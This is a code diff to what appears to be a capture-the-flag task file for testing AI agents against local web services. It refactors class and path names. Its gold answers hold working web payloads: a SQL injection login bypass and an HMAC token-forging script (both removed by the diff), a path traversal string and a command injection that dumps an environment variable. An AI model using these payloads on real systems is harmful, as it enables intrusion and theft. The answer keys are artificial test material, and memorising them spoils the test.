@@ -5,7 +5,7 @@ from __future__ import annotations
 import random
 from collections.abc import Callable
 
-from asynccode.tasks.ctf.challenge import Challenge, World, program, words
+from asynccode.tasks.ctf.challenge import Challenge, Scene, program, solution, words
 
 _FETCH = (
     "fetch() { python3 -c '\n"
@@ -17,30 +17,30 @@ _FETCH = (
 )
 
 
-def _site(name: str, *, shown: bool = True) -> Callable[[str, random.Random], World]:
-    def build(flag: str, _rng: random.Random) -> World:
-        source = program(name)
+def _site(name: str, *, shown: bool = True) -> Callable[[str, random.Random], Scene]:
+    def build(flag: str, _rng: random.Random) -> Scene:
+        source = program(f"services/{name}")
         files = {"site.py": source.encode()} if shown else {}
-        return World(files=files, service=source, secret=flag)
+        return Scene(files=files, service=source, secret=flag)
 
     return build
 
 
-def _weak_token(flag: str, rng: random.Random) -> World:
+def _weak_token(flag: str, rng: random.Random) -> Scene:
     """A site whose tokens are signed with a word of a list."""
-    source = program("token.py")
+    source = program("services/token")
     listed = sorted({"".join(rng.choices("aeioudlmnrst", k=7)) for _ in range(3000)})
-    return World(
+    return Scene(
         files={"site.py": source.encode(), "words.txt": "\n".join([*listed, ""]).encode()},
         service=source,
         secret=f"{rng.choice(listed)} {flag}",
     )
 
 
-def _hidden(flag: str, rng: random.Random) -> World:
+def _hidden(flag: str, rng: random.Random) -> Scene:
     """A site with a page that robots are told not to visit."""
     place = words(rng, 3).replace(" ", "-")
-    return World(service=program("robots.py"), secret=f"{place} {flag}")
+    return Scene(service=program("services/robots"), secret=f"{place} {flag}")
 
 
 _AT = "There is a web site at http://127.0.0.1:7000/."
@@ -62,15 +62,9 @@ CHALLENGES = (
         name="web-login",
         difficulty="medium",
         query=f"{_SHOWN} Log in as somebody who has seen the flag.",
-        build=_site("login.py"),
+        build=_site("login"),
         gold=[
-            "cat > solve.py <<'END'\n"
-            "import re, urllib.parse, urllib.request\n"
-            'name = "x\' UNION SELECT text FROM notes --"\n'
-            "data = urllib.parse.urlencode({'name': name, 'password': ''}).encode()\n"
-            "page = urllib.request.urlopen('http://127.0.0.1:7000/login', data).read().decode()\n"
-            "print(re.search(r'flag\\{.*?\\}', page)[0])\n"
-            "END",
+            solution("web-login"),
             "python3 solve.py",
         ],
     ),
@@ -79,7 +73,7 @@ CHALLENGES = (
         difficulty="easy",
         query=f"{_AT} It shows pages by name, from a folder of the server's own memory. The flag is"
         " in the server's folder private, in the file flag.txt.",
-        build=_site("pages.py", shown=False),
+        build=_site("pages", shown=False),
         gold=[
             _FETCH,
             "fetch '/?page=....//private/flag.txt'",
@@ -89,7 +83,7 @@ CHALLENGES = (
         name="web-ping",
         difficulty="medium",
         query=f"{_SHOWN} It looks hosts up with a shell command, in whose environment the flag is.",
-        build=_site("lookup.py"),
+        build=_site("lookup"),
         gold=[
             _FETCH,
             "fetch '/?host=localhost;printenv%20FLAG' | grep '^flag{'",
@@ -103,15 +97,7 @@ CHALLENGES = (
         gold=[
             _FETCH,
             "token=$(fetch /token)",
-            "cat > solve.py <<'END'\n"
-            "import base64, hashlib, hmac, sys\n"
-            "body, mac = sys.argv[1].split('.')\n"
-            "def sign(word, body):\n"
-            "    return hmac.new(word.encode(), body.encode(), hashlib.sha256).hexdigest()\n"
-            "word = next(w for w in open('words.txt').read().split() if sign(w, body) == mac)\n"
-            'body = base64.urlsafe_b64encode(b\'{"name": "me", "role": "admin"}\').decode()\n'
-            "print(f'{body}.{sign(word, body)}')\n"
-            "END",
+            solution("web-weak-token"),
             'fetch /flag "Authorization: Bearer $(python3 solve.py "$token")"',
         ],
     ),
